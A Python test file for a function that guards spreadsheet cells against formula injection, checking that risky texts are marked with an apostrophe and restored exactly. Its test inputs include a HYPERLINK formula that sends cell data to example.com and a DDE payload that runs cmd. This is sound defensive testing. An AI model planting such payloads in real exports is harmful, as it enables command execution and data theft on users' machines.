"""Texts as cells: nothing a spreadsheet would take for something else, and back exactly."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pipeline.curation.offline.cells import cell_units, guard, unguard

# Weighted towards what matters: marks, signs, digits, white space.
ALPHABET = st.one_of(st.sampled_from("'=+-@\t\r\n 0123456789eE.,:/%$＝abTRUE"), st.characters(codec="utf-8"))
TEXTS = st.text(ALPHABET)


@given(TEXTS)
@example("'")
@example("''=1")
@example("'tis 5 o'clock somewhere in this world")
def test_a_guarded_text_comes_back_exactly(text: str) -> None:
    assert unguard(guard(text)) == text


@given(TEXTS, st.text("'", max_size=3))
def test_texts_stay_apart(text: str, marks: str) -> None:
    assert (guard(marks + text) == guard(text)) == (marks == "")


@given(TEXTS)
def test_no_cell_begins_a_formula_and_at_most_one_mark_is_added(text: str) -> None:
    cell = guard(text)
    assert cell in (text, "'" + text)
    assert cell.lstrip(" ")[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"}


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.com/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1",
        "- a list\n- in Markdown",
        "@SUM(1)",
        "\t=1",
        "  =1",
        "＝1+1",
        "007",
        "1234567890123456",
        "12345678e0123456",
        "1/2",
        "3.0",
        "50 %",
        "$5.00",
        "1" * 400,
        "٣",
        "TRUE",
        " false ",
        "March 5",
        "Monday, January 5, 2026 3:00 PM",
        "'=1",
    ],
)
def test_what_a_spreadsheet_would_take_for_something_else_is_marked(text: str) -> None:
    assert guard(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["", "Yes.", "a = b", "'tis", "May", "one-two", "There are 3 ways to do this, and all of them work."],
)
def test_other_texts_are_left_alone(text: str) -> None:
    assert guard(text) == text


def test_what_a_person_types_with_an_apostrophe_stays() -> None:
    assert unguard("'tis true") == "'tis true"
    assert unguard("'- a copied list") == "- a copied list"


def test_a_cell_is_measured_as_a_spreadsheet_does() -> None:
    assert [cell_units(text) for text in ("abc", "é", "😀", "=1")] == [3, 1, 2, 3]
